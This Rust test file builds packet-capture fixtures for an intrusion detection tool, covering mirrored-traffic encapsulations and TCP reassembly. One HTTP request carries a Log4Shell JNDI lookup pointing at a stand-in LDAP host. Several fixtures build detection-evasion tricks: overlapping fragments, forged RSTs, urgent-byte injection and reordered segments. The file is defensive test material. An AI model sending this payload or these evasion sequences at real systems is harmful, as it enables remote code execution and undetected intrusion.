//! Builds the captures under tests/data/ (run with `cargo test --test
//! build_fixtures -- --ignored`; the outputs are committed). Each case is a
//! suricata-verify style folder: input.pcap, test.rules, test.yaml with the
//! expected alerts; `tests/cli.rs` runs them through `mirrorids verify`.

use std::net::IpAddr;
use std::path::Path;

use mirrorids::gen::frames::{self, TcpExtras, TcpSpec};
use mirrorids::gen::pcap_writer::PcapWriter;
use mirrorids::source::LinkType;
use mirrorids::util::Timestamp;

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn write(case: &str, file: &str, frames: &[Vec<u8>]) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data").join(case);
    std::fs::create_dir_all(&dir).unwrap();
    let f = std::fs::File::create(dir.join(file)).unwrap();
    let mut w = PcapWriter::new(f, LinkType::ETHERNET, 65535).unwrap();
    for (i, fr) in frames.iter().enumerate() {
        w.write_packet(Timestamp::from_secs_micros(1_711_929_600 + i as u64, 0), fr, fr.len() as u32).unwrap();
    }
}

fn seg(src: &str, dst: &str, sport: u16, dport: u16, seq: u32, payload: &[u8]) -> Vec<u8> {
    frames::tcp(ip(src), ip(dst), TcpSpec { sport, dport, seq, ack: 1, flags: 0x18, window: 1024 }, payload)
}

fn vx(inner: &[u8], vni: u32, eni: &str) -> Vec<u8> {
    frames::vxlan(inner, vni, ip(eni), ip("10.99.0.5"), 50_000)
}

#[test]
#[ignore]
fn build() {
    // Identical inner 5-tuples in two mirror sessions and from two ENIs.
    let c = "198.18.0.7";
    let s = "10.0.1.10";
    write(
        "vxlan-vni-separation",
        "input.pcap",
        &[
            vx(&seg(c, s, 40000, 8080, 100, b"LOGIN admin\r\n"), 100, s),
            vx(&seg(c, s, 40000, 8080, 100, b"SECRET data\r\n"), 200, s),
            vx(&seg(c, s, 40000, 8080, 100, b"SECRET data\r\n"), 100, "10.0.9.10"),
            vx(&seg(c, s, 40000, 8080, 113, b"SECRET data\r\n"), 100, s),
        ],
    );

    // A 9001-byte jumbo segment cut to the 8947 bytes AWS mirrors whole.
    let mut body = vec![b'.'; 9001 - 40];
    body[100..110].copy_from_slice(b"EARLY-MARK");
    body[8950..8960].copy_from_slice(b"LATE--MARK");
    let jumbo = seg(c, s, 40001, 80, 1, &body);
    write("vxlan-truncated-jumbo", "input.pcap", &[vx(&jumbo[..14 + 8947], 300, s)]);

    // The same attack seen on the source (plain) and on the sensor (VXLAN).
    let attack = seg(c, s, 40002, 80, 1, b"GET /?q=${jndi:ldap://203.0.113.66/a} HTTP/1.1\r\n\r\n");
    write("source-and-sensor-views", "plain.pcap", std::slice::from_ref(&attack));
    write("source-and-sensor-views", "sensor.pcap", &[vx(&attack, 400, s)]);

    // Gateway Load Balancer: GENEVE with AWS options, an IPv4 packet inside
    // carrying the VXLAN mirror copy.
    let inner_vx = vx(&attack, 500, s);
    let mut geneve = vec![0x08, 0x00, 0x08, 0x00, 0, 0, 0, 0];
    geneve.extend_from_slice(&[0x01, 0x08, 0x01, 0x02]);
    geneve.extend_from_slice(&0x0a0b_0c0d_0e0f_1011u64.to_be_bytes());
    geneve.extend_from_slice(&[0x01, 0x08, 0x02, 0x02]);
    geneve.extend_from_slice(&0x1122_3344_5566_7788u64.to_be_bytes());
    geneve.extend_from_slice(&[0x01, 0x08, 0x03, 0x01]);
    geneve.extend_from_slice(&0xcafe_f00du32.to_be_bytes());
    geneve.extend_from_slice(&inner_vx[14..]);
    write("gwlb-geneve", "input.pcap", &[frames::udp(ip("10.0.7.7"), ip("10.99.0.5"), 41000, 6081, &geneve)]);

    // Mirror copies delivered over IPv6.
    write(
        "ipv6-outer-vxlan",
        "input.pcap",
        &[frames::vxlan(&attack, 600, ip("2600:1f18::10"), ip("2600:1f18::5"), 50001)],
    );

    // An inner UDP datagram in two overlapping fragments inside VXLAN: the
    // second fragment's overlap must not replace the first's bytes (BSD).
    let dgram = frames::udp(ip(c), ip(s), 5000, 9999, b"HEADER-EVIL-PAYLOAD-0123456789");
    let ip_hdr = &dgram[14..34];
    let data = &dgram[34..];
    let frag = |off: usize, bytes: &[u8], more: bool| {
        let mut f = dgram[..14].to_vec();
        let mut h = ip_hdr.to_vec();
        h[2..4].copy_from_slice(&((20 + bytes.len()) as u16).to_be_bytes());
        h[4..6].copy_from_slice(&0x4242u16.to_be_bytes());
        let fo = (off / 8) as u16 | if more { 0x2000 } else { 0 };
        h[6..8].copy_from_slice(&fo.to_be_bytes());
        f.extend_from_slice(&h);
        f.extend_from_slice(bytes);
        vx(&f, 700, s)
    };
    let mut overlap = data[16..].to_vec();
    overlap[0..6].copy_from_slice(b"XXXXXX");
    write("vxlan-inner-fragments", "input.pcap", &[frag(0, &data[..24], true), frag(16, &overlap, false)]);

    // ERSPAN type II (GRE 0x88be) carrying an 802.1Q-tagged frame.
    let mut tagged = attack[..12].to_vec();
    tagged.extend_from_slice(&[0x81, 0x00, 0x00, 0x2a]);
    tagged.extend_from_slice(&attack[12..]);
    let mut gre = vec![0x10, 0x00, 0x88, 0xbe, 0, 0, 0, 1];
    gre.extend_from_slice(&[0x10, 0x2a, 0x00, 0x05, 0, 0, 0, 0]);
    gre.extend_from_slice(&tagged);
    let mut outer = frames::udp(ip("10.0.8.8"), ip("10.99.0.5"), 1, 2, &[]);
    outer.truncate(34);
    outer[23] = 47;
    let total = (20 + gre.len()) as u16;
    outer[16..18].copy_from_slice(&total.to_be_bytes());
    outer.extend_from_slice(&gre);
    write("erspan-vlan", "input.pcap", &[outer]);
}

/// One TCP connection's packets, built step by step.
struct Conn {
    c: (IpAddr, u16),
    s: (IpAddr, u16),
    cseq: u32,
    sseq: u32,
    out: Vec<Vec<u8>>,
}

impl Conn {
    fn new(c: &str, cport: u16, s: &str, sport: u16, cisn: u32, sisn: u32) -> Conn {
        Conn { c: (ip(c), cport), s: (ip(s), sport), cseq: cisn, sseq: sisn, out: Vec::new() }
    }

    fn pkt(&mut self, from_client: bool, seq: u32, flags: u8, payload: &[u8]) {
        let (a, b, ack) = if from_client { (self.c, self.s, self.sseq) } else { (self.s, self.c, self.cseq) };
        let spec = TcpSpec { sport: a.1, dport: b.1, seq, ack, flags, window: 1024 };
        self.out.push(frames::tcp(a.0, b.0, spec, payload));
    }

    /// SYN (with optional Fast Open data), SYN/ACK, ACK.
    fn handshake(&mut self, syn_data: &[u8]) {
        self.pkt(true, self.cseq, 0x02, syn_data);
        self.cseq = self.cseq.wrapping_add(1 + syn_data.len() as u32);
        self.pkt(false, self.sseq, 0x12, &[]);
        self.sseq = self.sseq.wrapping_add(1);
        self.pkt(true, self.cseq, 0x10, &[]);
    }

    /// Data from one side at its next sequence number, then the peer's ACK.
    fn send(&mut self, from_client: bool, data: &[u8]) {
        let seq = if from_client { self.cseq } else { self.sseq };
        self.pkt(from_client, seq, 0x18, data);
        if from_client {
            self.cseq = self.cseq.wrapping_add(data.len() as u32);
        } else {
            self.sseq = self.sseq.wrapping_add(data.len() as u32);
        }
        let peer = if from_client { self.sseq } else { self.cseq };
        self.pkt(!from_client, peer, 0x10, &[]);
    }

    /// Client data with URG set and an urgent pointer, then the ACK.
    fn send_urgent(&mut self, data: &[u8], pointer: u16) {
        let spec =
            TcpSpec { sport: self.c.1, dport: self.s.1, seq: self.cseq, ack: self.sseq, flags: 0x38, window: 1024 };
        let extras = TcpExtras { urgent: Some(pointer), ..TcpExtras::default() };
        self.out.push(frames::tcp_with(self.c.0, self.s.0, spec, extras, data));
        self.cseq = self.cseq.wrapping_add(data.len() as u32);
        self.pkt(false, self.sseq, 0x10, &[]);
    }

    fn close(&mut self) {
        self.pkt(true, self.cseq, 0x11, &[]);
        self.cseq = self.cseq.wrapping_add(1);
        self.pkt(false, self.sseq, 0x11, &[]);
        self.sseq = self.sseq.wrapping_add(1);
        self.pkt(true, self.cseq, 0x10, &[]);
    }
}

#[test]
#[ignore]
fn build_stream_cases() {
    let c = "198.18.0.7";
    let s = "10.0.1.10";

    // A marker split over two segments that arrive in reverse order with
    // a duplicate, then a second request in the same connection.
    let mut k = Conn::new(c, 41000, s, 80, 1000, 5000);
    k.handshake(&[]);
    let first = b"GET /a HTTP/1.1\r\nUser-Agent: EV";
    let second = b"IL-AGENT\r\n\r\n";
    let base = k.cseq;
    k.pkt(true, base.wrapping_add(first.len() as u32), 0x18, second);
    k.pkt(true, base, 0x18, first);
    k.pkt(true, base, 0x18, first);
    k.cseq = base.wrapping_add((first.len() + second.len()) as u32);
    k.pkt(false, k.sseq, 0x10, &[]);
    k.send(false, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    k.send(true, b"GET /b HTTP/1.1\r\n\r\n");
    k.send(false, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    k.close();
    write("stream-split-marker", "input.pcap", &k.out);

    // A forged RST far outside the window does not end the stream; a
    // believable one does.
    let mut a = Conn::new(c, 41001, s, 80, 7000, 9000);
    a.handshake(&[]);
    a.send(true, b"EV");
    a.pkt(false, a.sseq.wrapping_add(5_000_000), 0x04, &[]);
    a.send(true, b"IL");
    let mut b = Conn::new(c, 41002, s, 80, 7000, 9000);
    b.handshake(&[]);
    b.send(true, b"EV");
    b.pkt(false, b.sseq, 0x04, &[]);
    b.pkt(true, b.cseq, 0x18, b"IL");
    write("stream-rst-evasion", "input.pcap", &[a.out, b.out].concat());

    // A finished connection's ports reused by a new one: two streams.
    let mut r = Conn::new(c, 41003, s, 80, 100, 200);
    r.handshake(&[]);
    r.send(true, b"AAAA");
    r.close();
    let mut r2 = Conn::new(c, 41003, s, 80, 90_000, 80_000);
    r2.handshake(&[]);
    r2.send(true, b"BBBB");
    r2.close();
    write("stream-port-reuse", "input.pcap", &[r.out, r2.out].concat());

    // Sequence numbers wrap inside a marker.
    let mut w = Conn::new(c, 41004, s, 80, 0xffff_fff0, 300);
    w.handshake(&[]);
    w.send(true, b"0123456789-WRAP-");
    w.send(true, b"AROUND-MARK\r\n");
    w.close();
    write("stream-seq-wraparound", "input.pcap", &w.out);

    // TCP Fast Open: data in the SYN continues in the next segment.
    let mut t = Conn::new(c, 41005, s, 80, 4000, 6000);
    t.handshake(b"FAST-OPEN-");
    t.send(true, b"MARK\r\n");
    t.close();
    write("stream-fast-open", "input.pcap", &t.out);

    // A keep-alive connection repeating one request: each is a new
    // occurrence, also for a rule whose second content is relative to the
    // first (the first request's first content must not be joined to the
    // next request's second and the pair dismissed as already reported).
    let mut k = Conn::new(c, 41006, s, 80, 5000, 8000);
    k.handshake(&[]);
    for path in ["/a", "/b", "/c"] {
        let req = format!("GET {path} HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0)\r\n\r\n");
        k.send(true, req.as_bytes());
        k.send(false, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    }
    k.close();
    write("stream-keepalive-repeat", "input.pcap", &k.out);

    // A junk byte sent as urgent data, which the server's stack takes out
    // of the stream (it is at seq + pointer - 1): inside a segment (port
    // 41007) and as a segment's last byte (41008, what send(MSG_OOB) puts
    // on the wire).
    let mut u = Conn::new(c, 41007, s, 80, 3000, 4000);
    u.handshake(&[]);
    u.send_urgent(b"GET /evXil HTTP/1.1\r\nHost: x\r\n\r\n", 8);
    u.send(false, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    u.close();
    let mut v = Conn::new(c, 41008, s, 80, 3000, 4000);
    v.handshake(&[]);
    v.send_urgent(b"GET /evX", 8);
    v.send(true, b"il HTTP/1.1\r\nHost: x\r\n\r\n");
    v.send(false, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
    v.close();
    write("stream-urgent-oob", "input.pcap", &[u.out, v.out].concat());
}

#[test]
#[ignore]
fn build_file_cases() {
    // Files in HTTP bodies: a download named by Content-Disposition, a
    // multipart upload with two files and a form field, a PUT, and a
    // response named by its URI path; checked against Suricata 8.
    let mut k = Conn::new("198.18.0.7", 41100, "10.0.1.10", 80, 1000, 5000);
    k.handshake(&[]);
    k.send(true, b"GET /dl?id=7 HTTP/1.1\r\nHost: files.example\r\n\r\n");
    let exe = b"MZ\x90\x00\x03 this program cannot be run in DOS mode";
    let mut resp = format!(
        "HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=\"invoice.exe\"\r\nContent-Length: {}\r\n\r\n",
        exe.len()
    )
    .into_bytes();
    resp.extend_from_slice(exe);
    k.send(false, &resp);
    let body: &[u8] = b"--b0undary\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n\
--b0undary\r\nContent-Disposition: form-data; name=\"f\"; filename=\"upload.txt\"\r\nContent-Type: text/plain\r\n\r\nuploaded text\r\n\
--b0undary\r\nContent-Disposition: form-data; name=\"g\"; filename=\"tiny.bin\"\r\n\r\n1234\r\n\
--b0undary--\r\n";
    let mut post = format!(
        "POST /upload HTTP/1.1\r\nHost: files.example\r\nContent-Type: multipart/form-data; boundary=b0undary\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    post.extend_from_slice(body);
    k.send(true, &post);
    k.send(false, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n");
    k.send(true, b"PUT /store/data.bin HTTP/1.1\r\nHost: files.example\r\nContent-Length: 11\r\n\r\nsome data\r\n");
    k.send(false, b"HTTP/1.1 204 No Content\r\n\r\n");
    k.send(true, b"GET /pages/index.html HTTP/1.1\r\nHost: files.example\r\n\r\n");
    k.send(false, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n<p/>\n");
    k.close();
    write("http-files", "input.pcap", &k.out);
}

/// A TLS record of `content_type` carrying `body` as it is.
fn tls_record(content_type: u8, body: &[u8]) -> Vec<u8> {
    let mut r = vec![content_type, 0x03, 0x03];
    r.extend_from_slice(&(body.len() as u16).to_be_bytes());
    r.extend_from_slice(body);
    r
}

#[test]
#[ignore]
fn build_tls_cases() {
    use mirrorids::gen::{apps, rng::Rng};
    // A TLS 1.3 connection whose application data records (in both
    // directions) happen to contain readable markers: once application
    // data flows, Suricata's default `encryption-handling: track-only`
    // stops content rules on the connection's payload, while `tls.sni`
    // and rules without payload keywords go on.
    let mut rng = Rng::new(7);
    let mut t = Conn::new("198.18.0.7", 41020, "10.0.1.10", 443, 11_000, 21_000);
    t.handshake(&[]);
    t.send(true, &apps::tls_client_hello(&mut rng, "track-only.example"));
    t.send(false, &apps::tls_server_flight(&mut rng, 0));
    t.send(true, &tls_record(23, b"first client record CLIENT-MARKER-ONE padding"));
    t.send(false, &tls_record(23, b"server record SERVER-MARKER padding padding"));
    t.send(true, &tls_record(23, b"second client record CLIENT-MARKER-TWO padding"));
    t.send(false, &tls_record(23, b"second server record LATER-SERVER-MARK padding"));
    t.close();
    write("tls-encrypted-track-only", "input.pcap", &t.out);
}
